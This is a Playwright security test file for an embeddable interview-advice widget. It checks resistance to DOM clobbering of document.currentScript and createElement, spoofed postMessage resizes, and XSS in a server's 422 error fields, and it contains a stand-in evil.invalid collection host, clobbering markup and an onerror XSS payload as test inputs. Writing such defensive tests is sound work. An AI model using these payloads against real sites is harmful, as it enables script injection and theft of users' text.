"""<interview-advice> on a page others can write to, in a real browser.

A careers page often shows markup it did not write (a job's description, a
comment) through a sanitiser that strips scripts but keeps elements and their
`name` and `id`. Such markup names properties of `document` ("DOM clobbering":
`<img name="currentScript">` is what `document.currentScript` then returns),
and the widget reads two of them: `document.currentScript`, for the server it
asks by default, and `document.createElement`, for everything it draws. Since
release 1.1.5 it reads both from `Document.prototype`, where no element of the
page can stand in for them; releases up to 1.1.4 read them from `document` and
are served byte for byte, so docs/widget.md says what a site pinned to one can
do, and the tests here check that it works.

Also here: messages from other frames, which resize no advice iframe but the
one that sent them; and what a hostile server answers (a refusal naming fields
in markup) reaching the page as text only.
"""

from __future__ import annotations

import contextlib
import http.server
import json

import pytest
from playwright.sync_api import expect

from ..live import http_server

pytestmark = [pytest.mark.server, pytest.mark.browser]

#: An origin nobody serves: requests to it are answered by the test (`page.route`).
EVIL = "http://evil.invalid"
XSS = "<img src=x onerror=alert(1)>"
#: The last release that reads `document.currentScript` from `document`: what a site
#: pinned to it (or to any before it) can do is tried with it.
CLOBBERED = "widget-1.1.4.js"


def _page(
    api: str, markup: str, widget: str, csp: str | None = None, script: str = "widget.js"
) -> tuple[str, dict]:
    """A careers page: the widget's script (the latest, or `script` of the server), the
    page's own markup, the widget."""
    html = (
        '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Careers</title>'
        f'<script src="{api}/{script}" defer></script></head><body><main>'
        f'<section class="comments">{markup}</section>{widget}</main></body></html>'
    )
    headers = {"Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store"}
    if csp:
        headers["Content-Security-Policy"] = csp
    return html, headers


@contextlib.contextmanager
def _served(html: str, headers: dict):
    """A site on a loopback port of its own that serves `html` at every path."""

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = html.encode()
            self.send_response(200)
            for name, value in {**headers, "Content-Length": str(len(body))}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format, *args):
            pass

    with http_server(Page) as base:
        yield base


@contextlib.contextmanager
def _opened(open_page, html: str, headers: dict):
    """`html` served as a careers page and opened; every request to `EVIL` is answered
    with a 500, and those for the API kept (the markup's image is loaded from there
    too). Yield the tab and the API requests `EVIL` got."""
    with _served(html, headers) as base:
        tab = open_page("about:blank")
        stolen: list[str] = []

        def evil(route):
            request = route.request
            if "/v1/" in request.url:
                stolen.append(f"{request.method} {request.url} {request.post_data}")
            route.fulfill(status=500, headers={"Access-Control-Allow-Origin": "*"}, body="")

        tab.page.route(f"{EVIL}/**", evil)
        tab.page.goto(f"{base}/careers.html")
        yield tab, stolen


PRESET = '<interview-advice stage="after" hours-since="3" plans="Ring Sam at home tonight">'


def test_markup_naming_current_script_does_not_send_the_candidates_text_elsewhere(api, open_page):
    markup = f'<img name="currentScript" src="{EVIL}/collect/" alt="">'
    html, headers = _page(api, markup, PRESET + "</interview-advice>")
    with _opened(open_page, html, headers) as (tab, stolen):
        results = tab.page.locator("interview-advice section.results")
        expect(results.or_(tab.page.locator("interview-advice [role=alert] p"))).to_be_visible()
        assert stolen == []
        expect(results).to_be_visible()


def test_the_api_attribute_keeps_the_requests_at_the_server_whatever_the_markup(api, open_page):
    """What a site pinned to a release up to 1.1.4 can do: name the server in `api`."""
    markup = f'<img name="currentScript" src="{EVIL}/collect/" alt="">'
    widget = PRESET.replace("<interview-advice", f'<interview-advice api="{api}"')
    html, headers = _page(api, markup, widget + "</interview-advice>", script=CLOBBERED)
    with _opened(open_page, html, headers) as (tab, stolen):
        expect(tab.page.locator("interview-advice section.results")).to_be_visible()
        assert stolen == []


def test_a_sites_connect_src_keeps_the_requests_from_leaving(api, open_page):
    """And the policy docs/widget.md gives: `connect-src` names the server only (the
    release then asks the markup's address, and the browser blocks it)."""
    markup = f'<img name="currentScript" src="{EVIL}/collect/" alt="">'
    csp = f"default-src 'none'; script-src {api}; connect-src {api}; img-src 'self'"
    html, headers = _page(api, markup, PRESET + "</interview-advice>", csp, CLOBBERED)
    with _opened(open_page, html, headers) as (tab, stolen):
        alert = tab.page.locator("interview-advice [role=alert] p").first
        expect(alert).to_contain_text("could not be reached")
        assert stolen == []


def test_markup_naming_create_element_does_not_stop_the_widget(api, open_page):
    markup = '<form name="createElement"></form>'
    html, headers = _page(api, markup, "<interview-advice></interview-advice>")
    with _opened(open_page, html, headers) as (tab, _):
        widget = tab.page.locator("interview-advice")
        expect(widget.get_by_role("button", name="Get advice")).to_be_visible()
        assert tab.errors == []


def test_messages_from_elsewhere_resize_no_advice_iframe(api, open_page):
    """Only the iframe's own page, from its own origin, sets its height: the host page
    and another frame (here /embed again, of the server's own origin) are not heeded."""
    frames = (
        f'<iframe src="{api}/embed" title="Interview advice" data-interview-advice '
        'height="150"></iframe>'
        f'<iframe src="{api}/embed?heading=Other" title="Another"></iframe>'
    )
    html = (
        '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Careers</title>'
        f'<script src="{api}/embed-resize.js"></script></head><body>{frames}</body></html>'
    )
    with _opened(open_page, html, {"Content-Type": "text/html; charset=utf-8"}) as (tab, _):
        page = tab.page
        advice = page.locator("iframe[data-interview-advice]")
        page.wait_for_function(
            "() => document.querySelector('iframe[data-interview-advice]').style.height !== ''"
        )
        fitted = advice.evaluate("frame => frame.style.height")
        spoof = "{type: 'interview-advice:resize', height: 3}"
        page.evaluate(f"postMessage({spoof}, '*')")
        other = next(f for f in page.frames if "heading=Other" in f.url)
        other.evaluate(f"parent.postMessage({spoof}, '*')")
        page.wait_for_timeout(300)  # the messages are delivered by then, or never
        assert advice.evaluate("frame => frame.style.height") == fitted


def test_a_refusal_naming_fields_in_markup_is_shown_as_text(api, open_page):
    """A server the page points the widget at may name anything in a 422's `errors`."""
    problem = {
        "type": "about:blank",
        "title": "Unprocessable Content",
        "status": 422,
        "detail": XSS,
        "errors": {XSS: [f"<b>{XSS}</b>"], "plans.0": [XSS]},
    }
    tab = open_page(f"{api}/embed")
    page = tab.page
    page.route(
        "**/v1/advice",
        lambda route: route.fulfill(
            status=422, content_type="application/problem+json", body=json.dumps(problem)
        ),
    )
    widget = page.locator("interview-advice")
    widget.get_by_role("button", name="Get advice").click()
    items = widget.locator("[role=alert] li")
    expect(items).to_have_text([f"{XSS} – <b>{XSS}</b>", f"Your plans – {XSS}"])
    assert widget.evaluate("h => h.shadowRoot.querySelectorAll('img, b, script').length") == 0
    assert tab.errors == []
    assert tab.csp_violations() == []


@pytest.mark.parametrize("field", ["constructor", "__proto__", "state.toString"])
def test_a_refusal_naming_a_field_like_an_objects_own_is_shown_by_that_name(api, open_page, field):
    """Releases up to 1.1.4 looked `constructor` up in the labels' object and found it on
    its prototype: the widget said `function Object() { [native code] } – …`. Since 1.1.5
    a label is only a table's own (`Object.hasOwn`)."""
    problem = {"type": "about:blank", "title": "Unprocessable Content", "status": 422}
    problem["errors"] = {field: ["Unknown field."]}
    tab = open_page(f"{api}/embed")
    page = tab.page
    page.route(
        "**/v1/advice",
        lambda route: route.fulfill(
            status=422, content_type="application/problem+json", body=json.dumps(problem)
        ),
    )
    widget = page.locator("interview-advice")
    widget.get_by_role("button", name="Get advice").click()
    expect(widget.locator("[role=alert] li")).to_have_text([f"{field} – Unknown field."])
